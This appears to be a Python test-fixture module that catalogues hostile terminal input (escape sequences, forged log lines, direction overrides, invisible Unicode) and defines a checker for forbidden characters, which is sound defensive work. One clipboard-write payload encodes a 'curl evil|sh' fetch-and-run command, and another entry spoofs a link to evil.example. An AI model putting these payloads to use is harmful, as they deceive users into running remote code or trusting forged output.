"""What somebody who means harm writes where a person will read it, and what may never reach a
terminal or a log.
"""

from __future__ import annotations

import unicodedata

HOSTILE = {
    "screen cleared": "\x1b[2J\x1b[H you are banned",
    "title set": "\x1b]0;root@bank\x07",
    "clipboard written": "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",
    "link that leads elsewhere": "\x1b]8;;http://evil.example\x1b\\atoll.example\x1b]8;;\x1b\\",
    "colours and hidden text": "\x1b[8mhidden\x1b[0m\x1b[31mE205",
    "report asked for": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "C1 control": "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "null, bell, backspace": "good\x00\x07\x08\x08\x08\x08evil",
    "delete": "a\x7f\x7fb",
    "line overwritten": "harmless\rE205 you are banned",
    "line forged": "x\n2026-01-01 00:00:00,000 ERROR run abc: your key was stolen",
    "other newlines": "x\x0b\x0c\x85\u2028\u2029E205 forged",
    "direction overridden": "invoice\u202egnp.exe",
    "direction embedded and isolated": "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "no width": "at\u200boll\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "invisible fillers": "\u3164\u115f\u1160\uffa0",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "variants": "a\ufe0f\ufe0e\U000e0100",
    "surrogate": "\ud800",
    "private and unassigned": "\ue000\uffff\U0010ffff",
    "rich markup": "[red]banned[/red] [link=file:///etc/passwd]click[/link] [bold]x[/]",
    "click and percent": "%s %d {0} {name} %(message)s",
    "end of the quotation forged": "no” E205 the organiser has banned you “",
    "long": "x" * 100_000,
}
"""By what it is meant to do."""

FORBIDDEN = frozenset(
    chr(code)
    for code in range(0x110000)
    if unicodedata.category(chr(code)) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    or chr(code) in "\u115f\u1160\u3164\uffa0\ufe0e\ufe0f\U000e0100"
)
"""Characters that are obeyed or not seen; a newline is one, where it is not ours."""


def harmful(text: str, *, newlines: bool = True) -> set[str]:
    """Those in a text; ``newlines``: it is a whole text of ours, whose lines end with them."""
    return (set(text) & FORBIDDEN) - ({"\n"} if newlines else set())
